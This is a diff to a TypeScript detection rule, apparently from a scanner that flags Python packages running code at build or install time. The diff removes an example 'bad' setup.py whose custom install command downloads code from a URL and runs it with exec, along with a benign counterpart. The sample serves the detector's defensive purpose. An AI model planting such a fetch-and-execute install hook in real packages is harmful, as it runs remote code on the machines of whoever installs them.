@@ -1,6 +1,5 @@
 /** What runs when a source distribution is built or installed. */
 import { connects, startsProgram } from '../python/names.ts';
-import { installPaths } from '../python/runs.ts';
 import { at, type CodeSign } from '../sign.ts';
 import { payloadOf } from './decoded-exec.ts';
 
@@ -14,21 +13,9 @@ export const installAction: CodeSign = {
       'Three of four malicious packages act here: `setup.py`, the commands it defines, or a build backend of its own.',
       'Builds of native code start compilers, so one such act alone says little; a connection and code that is run are loud.',
     ].join('\n'),
-    bad: {
-      files: {
-        'setup.py':
-          "from setuptools import setup\nfrom setuptools.command.install import install as base\nimport urllib.request as u\nclass Custom(base):\n    def run(self):\n        base.run(self)\n        exec(u.urlopen('https://example.org/').read())\nsetup(name='acme', **{'cmdclass': {'install': Custom}})\n",
-      },
-    },
-    good: {
-      files: {
-        'setup.py':
-          "from setuptools import setup\nexec(open('acme/version.py').read())\nif __name__ == '__main__':\n    setup(name='acme')\n",
-      },
-    },
   },
   trigger: /\w\(/,
-  paths: installPaths,
+  isOfInstalling: true,
   *findInCode(source) {
     const early = source.calls.filter(({ node }) => source.runsAt(node) === 'install');
     const connecting = early.filter(({ name }) => connects.test(name));
